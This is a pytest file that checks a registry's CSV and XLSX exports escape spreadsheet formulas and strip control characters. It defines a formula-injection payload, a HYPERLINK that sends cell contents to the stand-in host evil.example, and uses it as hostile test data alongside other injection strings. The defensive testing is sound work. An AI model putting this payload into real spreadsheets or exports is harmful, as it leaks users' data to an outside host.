"""Exports never carry a live formula and never fail on a control character: the
point CSV/XLSX of the register and the public CSV (#12)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from sot.registry import tables
from sot.registry.models import Point
from sot.validation import bounds

pytestmark = pytest.mark.db

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"klicka")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+46 70", "'+46 70"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-12.5", "-12.5"),  # a plain number stays a number
        ("Kall", "Kall"),
        ("bell\x07", "bell"),
        (12, 12),
        (None, None),
    ],
)
def test_spreadsheet_text(value, expected):
    assert bounds.spreadsheet_text(value) == expected


@pytest.fixture
def hostile_kall(kall):
    """Kall renamed to a formula, its village with a control character (stored
    behind the backstop's back, as an old row could be)."""
    Point.objects.filter(pk=kall.pk).update(name=PAYLOAD, village="Kall\x07by")
    return Point.objects.get(pk=kall.pk)


def test_register_xlsx_export_holds_text_not_formulas(hostile_kall):
    data = tables.to_xlsx(tables.export_rows([hostile_kall]))
    ws = load_workbook(io.BytesIO(data)).active
    header = [c.value for c in ws[1]]
    row = ws[2]
    name = row[header.index("name")]
    assert name.data_type == "s"
    assert name.value == "'" + PAYLOAD
    assert row[header.index("village")].value == "Kallby"


def test_register_csv_export_neutralises_formulas(hostile_kall):
    text = tables.to_csv(tables.export_rows([hostile_kall])).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert rows[0]["name"] == "'" + PAYLOAD


def test_admin_exports(client, coordinator, hostile_kall):
    client.force_login(coordinator)
    for fmt in ("csv", "xlsx"):
        r = client.get(f"/admin/registry/point/export/{fmt}/")
        assert r.status_code == 200, fmt


def test_public_csv_neutralises_formulas(client, hostile_kall):
    r = client.get("/punkter.csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    names = [row[1] for row in rows[2:]]
    assert "'" + PAYLOAD in names
    assert PAYLOAD not in names
